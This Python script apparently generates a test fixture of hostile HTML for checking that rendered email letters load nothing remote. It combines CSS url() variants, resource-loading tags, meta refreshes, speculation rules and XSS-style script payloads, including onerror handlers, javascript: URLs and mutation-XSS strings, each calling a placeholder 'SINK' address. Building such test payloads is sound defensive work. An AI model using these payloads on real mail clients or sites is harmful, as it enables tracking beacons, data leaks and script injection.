"""Hostile HTML of letters, made from a table: each way to name an address in each place that may load it.

`python3 payloads.py --write` writes tests/fixtures/http/payloads.txt anew: the lines that were written by hand stay first, then a
mark, then what this table gives. browser.py checks that the file is what this program says.
"""

import pathlib
import sys

FILE = pathlib.Path(__file__).resolve().parents[2] / "tests/fixtures/http/payloads.txt"
MARK = "# Made by tests/peers/payloads.py from its table."

# Ways to write an address in CSS.
CSS_WAYS = {
    "bare": "url({})",
    "single": "url('{}')",
    "double": 'url("{}")',
    "upper": "URL({})",
    "escaped": "\\75rl({})",
    "escaped-all": "\\75\\72\\6c({})",
    "escaped-zeros": "\\000075 \\000072 \\00006c ({})",
    "spaces": "url(  {}  )",
    "image-set": 'image-set("{}" 1x)',
    "image-set-url": "image-set(url({}) 1x, url({}-2) 2x)",
    "webkit-image-set": "-webkit-image-set(url({}) 1x)",
    "cross-fade": "-webkit-cross-fade(url({}), url({}-2), 50%)",
}
# Declarations that load what they name.
CSS_PLACES = {
    "background": "background:%s", "background-image": "background-image:%s", "list-style": "list-style-image:%s;display:list-item",
    "border-image": "border:9px solid;border-image-source:%s", "mask": "mask-image:%s", "webkit-mask": "-webkit-mask-image:%s",
    "shape": "float:left;shape-outside:%s", "content": "content:%s",
}
# Declarations that take no image function, only `url()`.
CSS_URL_PLACES = {
    "cursor": "cursor:%s,auto", "filter": "filter:%s", "clip": "clip-path:%s",
    "marker": "display:list-item;list-style:square %s", "first-of-many": "background:%s, none, none",
    "important": "background:%s!important", "commented": "back/**/ground:none;background/**/:/**/%s",
}
# Style sheets around a declaration.
SHEETS = {
    "rule": "<style>div{%s}</style>", "media": "<style>@media all{div{%s}}</style>",
    "supports": "<style>@supports (display:block){div{%s}}</style>", "layer": "<style>@layer a{div{%s}}</style>",
    "container": "<style>@container (min-width:0){div{%s}}</style>", "nested": "<style>body{& div{%s}}</style>",
    "has": "<style>body:has(div){%s}</style>", "scope": "<style>@scope (body){div{%s}}</style>",
    "before": "<style>div::before{content:'x';%s}</style>", "variable": "<style>:root{--a:x}div{%s}</style>",
    "keyframes": "<style>@keyframes k{from{%s}to{%s}}div{animation:k 1s infinite}</style>",
    "unclosed": "<style>div{%s", "svg": "<svg><style>div{%s}</style></svg>", "type": '<style type="text/css" media="all">div{%s}</style>',
    "cdo": "<style><!-- div{%s} --></style>", "property": "<style>@property --p{syntax:'<image>';inherits:false;initial-value:none}div{%s}</style>",
}
IMPORTS = [
    '@import "{}";', "@import '{}';", "@import url({});", "@import url('{}') all;", "@\\69mport url({});", "@IMPORT url({});",
    '@import url({}) layer(x);', '@import url({}) supports(display:block);', '@charset "utf-8";@import url({});', "/**/@import/**/url({});",
]
FONTS = [
    "@font-face{{font-family:f;src:url({})}}div{{font-family:f}}",
    "@font-face{{font-family:f;src:local(nosuch),url({}) format('woff2')}}div{{font-family:f}}",
    "@font-face{{font-family:f;src:url({});unicode-range:U+0000-FFFF}}div{{font-family:f}}",
    "@font-face{{font-family:f;src:\\75rl({})}}div{{font-family:f}}",
]
# Elements whose attributes load what they name. `{}` is the address.
ELEMENTS = [
    '<img src="{}">', "<img src='{}'>", "<img src={}>", '<IMG SRC="{}">', '<img/src="{}">', '<img src="\t{}">', '<img src=" {} ">',
    '<image src="{}">', '<img srcset="{}">', '<img srcset="{} 1x">', '<img srcset="{} 100w" sizes="100px">', '<img src=data:, srcset="x, {} 3x">',
    '<img src="{}" loading="eager" fetchpriority="high">', '<img src="{}" decoding="sync" crossorigin>', '<img src="{}" referrerpolicy="unsafe-url">',
    '<picture><source media="(min-width:0)" srcset="{}"><img></picture>', '<picture><source type="image/png" srcset="{} 1x"><img></picture>',
    '<video poster="{}"></video>', '<video src="{}" preload="auto"></video>', '<video preload="auto"><source src="{}" type="video/mp4"></video>',
    '<audio src="{}" preload="auto"></audio>', '<audio autoplay><source src="{}"></audio>', '<video autoplay muted loop src="{}"></video>',
    '<video src="data:video/mp4," ><track kind="captions" src="{}" default></video>',
    '<input type="image" src="{}">', '<input type=image formaction="{}" src="{}">', '<button type="submit"><img src="{}"></button>',
    '<body background="{}">', '<table background="{}"><tr><td>x</table>', '<table><thead background="{}"><tr><td>x</table>',
    '<table><tr background="{}"><td>x</table>', '<table><tr><th background="{}">x</table>',
    '<object data="{}" type="image/png"></object>', '<object data="{}" type="text/html"></object>', '<object type="image/svg+xml" data="{}"></object>',
    '<embed src="{}" type="image/png">', '<embed src="{}" type="text/html">', '<object><param name="src" value="{}"><embed src="{}"></object>',
    '<iframe src="{}"></iframe>', '<iframe src="{}" sandbox="allow-scripts allow-same-origin"></iframe>', '<iframe src="{}" loading="eager"></iframe>',
    '<iframe srcdoc="&lt;img src={}&gt;"></iframe>', '<iframe srcdoc="<link rel=stylesheet href={}>"></iframe>',
    '<iframe src="data:text/html,<img src={}>"></iframe>', '<frameset rows=1><frame src="{}"></frameset>', '<fencedframe src="{}"></fencedframe>',
    '<portal src="{}"></portal>', '<link rel="stylesheet" href="{}">', '<link rel="alternate stylesheet" href="{}" title=a>',
    '<link href="{}" rel="STYLESHEET" type="text/css">', '<link rel="preload" as="style" href="{}">', '<link rel="preload" as="font" crossorigin href="{}">',
    '<link rel="preload" as="script" href="{}">', '<link rel="preload" as="fetch" crossorigin href="{}">', '<link rel="preload" as="image" imagesrcset="{} 1x">',
    '<link rel="prefetch" href="{}">', '<link rel="prerender" href="{}">', '<link rel="dns-prefetch" href="{}">', '<link rel="preconnect" href="{}" crossorigin>',
    '<link rel="shortcut icon" href="{}">', '<link rel="apple-touch-icon" href="{}">', '<link rel="mask-icon" href="{}" color=red>',
    '<link rel="manifest" href="{}">', '<link rel="import" href="{}">', '<link rel="search" type="application/opensearchdescription+xml" href="{}">',
    '<link rel="pingback" href="{}"><link rel="next" href="{}">', '<link rel="expect" href="{}">', '<link rel="compression-dictionary" href="{}">',
    '<svg><image href="{}" width=9 height=9 /></svg>', '<svg><image xlink:href="{}" width=9 height=9 /></svg>', '<svg><use href="{}#a"/></svg>',
    '<svg><use xlink:href="{}#a"/></svg>', '<svg width=9 height=9><filter id=f><feImage href="{}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>',
    '<svg><foreignObject width=9 height=9><img src="{}"></foreignObject></svg>', '<svg><script href="{}"></script></svg>',
    '<svg><script xlink:href="{}"></script></svg>', '<svg width=9 height=9><rect width=9 height=9 fill="url({}#a)"/></svg>',
    '<svg width=9 height=9><rect width=9 height=9 mask="url({}#a)"/></svg>', '<svg width=9 height=9><rect width=9 height=9 filter="url({}#a)"/></svg>',
    '<svg width=9 height=9><rect width=9 height=9 clip-path="url({}#a)"/></svg>', '<svg width=9 height=9><text><textPath href="{}#a">x</textPath></text></svg>',
    '<svg width=9 height=9><pattern id=p href="{}#a"/><rect width=9 height=9 fill="url(#p)"/></svg>',
    '<svg><image href="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><image href=\'{}\'/></svg>" width=9 height=9 /></svg>',
    '<svg><set attributeName=href to="{}" begin=0s /><image width=9 height=9><set attributeName="href" to="{}" begin="0s"/></image></svg>',
    '<math><annotation-xml encoding="text/html"><img src="{}"></annotation-xml></math>', '<math href="{}"><mi>x</mi></math>',
    '<math><mtext><img src="{}"></mtext></math>', '<script src="{}"></script>', '<script type="module" src="{}"></script>',
    '<script type="importmap">{{"imports":{{"a":"{}"}}}}</script><script type=module>import "a"</script>', '<script async defer src="{}"></script>',
    '<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{}"],"eagerness":"immediate"}}]}}</script>',
    '<script type="speculationrules">{{"prerender":[{{"source":"list","urls":["{}"],"eagerness":"immediate"}}]}}</script>',
    '<meta http-equiv="refresh" content="0;url={}">', '<meta http-equiv="refresh" content="0; URL=\'{}\'">', '<META HTTP-EQUIV=Refresh CONTENT="0;{}">',
    '<meta http-equiv="refresh" content="0.1, url={}">', '<svg><meta http-equiv="refresh" content="0;url={}"></svg>',
    '<noscript><meta http-equiv="refresh" content="0;url={}"></noscript>', '<meta http-equiv="link" content="<{}>; rel=preload; as=image">',
    '<meta http-equiv="origin-trial" content="x"><img src="{}">', '<meta name="referrer" content="unsafe-url"><img src="{}">',
    '<base href="{}/"><img src="x"><link rel=stylesheet href="y">', '<base target=_top href="{}/"><iframe src="x"></iframe>',
    '<form action="{}"><input name=a><input type=submit autofocus></form>', '<form action="{}" id=f></form><button form=f autofocus>x</button>',
    '<isindex action="{}" type=image src="{}">', '<a href="{}" autofocus>x</a>', '<a href="{}" target=_blank rel=opener>x</a>',
    '<area href="{}" shape=default><map name=m><area href="{}" coords="0,0,99,99"></map><img usemap="#m" src="{}">',
    '<template shadowrootmode=open><img src="{}"></template>', '<div><template shadowrootmode=open><style>@import url({});</style></template></div>',
    '<dialog open><img src="{}"></dialog>', '<details open><summary><img src="{}"></summary></details>', '<select><option style="background:url({})">x</select>',
    '<textarea></textarea></textarea><img src="{}">', '<title></title><img src="{}">', '<xmp></xmp><img src="{}">', '<plaintext></plaintext><img src="{}">',
    '<!--x--!><img src="{}">-->', '<![CDATA[><img src="{}">]]>', '<?xml-stylesheet href="{}"?><img src="{}">', '<img src="{}" onerror=alert(1)//',
    '<img src="{}"', '<<img src="{}">', '<im<b>g src=x><img src="{}">', "<div style=\"background:url(&quot;{}&quot;)\">x</div>",
    '<div style="background:&#117;rl({})">x</div>', '<font face="x" style="background:url({})">x</font>', '<p style="--a:url({});background:var(--a)">x</p>',
    '<p data-a="{}" style="background:attr(data-a url)">x</p>', '<p data-a="{}" style="background:image-set(attr(data-a) 1x)">x</p>',
    '<p style="background:src(\'{}\')">x</p>', '<p style="background:image(\'{}\')">x</p>', '<p style="behavior:url({});-moz-binding:url({}#a)">x</p>',
]
# What runs, or leads away, if anything of a letter ever runs.
SCRIPTS = [
    "<script>new Image().src='{}'</script>", "<script>navigator.sendBeacon('{}')</script>", "<script>new EventSource('{}')</script>",
    "<script>location='{}'</script>", "<script>parent.location='{}'</script>", "<script>open('{}')</script>", "<script>document.write('<img src={}>')</script>",
    "<script>import('{}')</script>", "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{}')\"])))</script>",
    "<script>new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1'}}]}});fetch('{}')</script>", "<script>history.pushState(0,0,'/');fetch('{}')</script>",
    "<svg><animate onbegin=\"fetch('{}')\" attributeName=x dur=1s></svg>", "<svg><set onbegin=\"fetch('{}')\" attributeName=x dur=1s></svg>",
    "<style>@keyframes k{{}}</style><p style=\"animation:k 1s\" onanimationstart=\"fetch('{}')\">x</p>", "<video oncanplay=\"fetch('{}')\" onerror=\"fetch('{}')\"><source src=x></video>",
    "<audio src=x onerror=\"fetch('{}')\">", "<iframe onload=\"fetch('{}')\"></iframe>", "<object data=x onerror=\"fetch('{}')\"></object>",
    "<link rel=stylesheet href=data:, onload=\"fetch('{}')\">", "<style onload=\"fetch('{}')\"></style>", "<input onblur=\"fetch('{}')\" autofocus><input autofocus>",
    "<body onpageshow=\"fetch('{}')\">", "<body onhashchange=\"fetch('{}')\" onresize=\"fetch('{}')\" onfocus=\"fetch('{}')\">",
    "<iframe src=\"javascript:fetch('{}')\"></iframe>", "<embed src=\"javascript:fetch('{}')\">", "<object data=\"javascript:fetch('{}')\"></object>",
    "<form action=\"javascript:fetch('{}')\"><button autofocus>x</button></form>", "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=fetch('{}') src>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=fetch('{}')>\">", "<noscript><p title=\"</noscript><img src=x onerror=fetch('{}')>\">",
]


def made():
    """The payloads of the table; `SINK` is the address."""
    number = 0

    def address():
        nonlocal number
        number += 1
        return f"SINK/made-{number:03}"

    def with_address(text):
        return text.replace("{{", "\0").replace("}}", "\1").replace("{}", address()).replace("\0", "{").replace("\1", "}")

    # Every place with one way, and every way in one place; not their product, which would only be long.
    ways = list(CSS_WAYS.values())
    for index, place in enumerate(CSS_PLACES.values()):
        yield f"""<div style='{place % with_address(ways[index % len(ways)]).replace("'", '"')}'>x</div>"""
    for place in CSS_URL_PLACES.values():
        yield f"<div style='{place % with_address(CSS_WAYS['bare'])}'>x</div>"
    for way in ways:
        yield f"<style>div{{background-image:{with_address(way)}}}</style><div>x</div>"
    for sheet in SHEETS.values():
        yield sheet.replace("%s", "background:" + with_address(CSS_WAYS["double"])) + "<div>x</div>"
    for text in IMPORTS:
        yield f"<style>{with_address(text)}</style>"
    for text in FONTS + ELEMENTS + SCRIPTS:
        whole = with_address(text)
        yield f"<style>{whole}</style><div>x</div>" if text in FONTS else whole


def by_hand():
    lines = FILE.read_text().splitlines()
    return lines[:lines.index(MARK)] if MARK in lines else lines


def whole():
    """The file as it should be."""
    return "\n".join([*by_hand(), MARK, *(line.replace("\t", "&#9;") for line in made())]) + "\n"


if __name__ == "__main__":
    if "--write" in sys.argv:
        FILE.write_text(whole())
    else:
        sys.stdout.write(whole())
